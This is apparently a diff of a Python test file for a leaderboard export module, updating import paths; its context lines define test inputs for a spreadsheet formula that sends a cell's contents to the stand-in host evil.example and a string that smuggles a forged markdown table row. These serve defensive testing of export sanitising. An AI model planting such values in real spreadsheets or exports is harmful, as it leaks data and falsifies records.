@@ -10,8 +10,8 @@ import pandas as pd
 import pytest
 
 from board_records import HEAD, record, track
-from harness.ranking import rank
-from harness.site.exports import export_board, read_csv_export, to_latex, to_markdown
+from harness.scoring.rank import rank
+from harness.publish.exports import export_board, read_csv_export, to_latex, to_markdown
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 FORGED = "Evil\n| 1 | Forged | distillation | 99.00 | yes |\r\nrow"
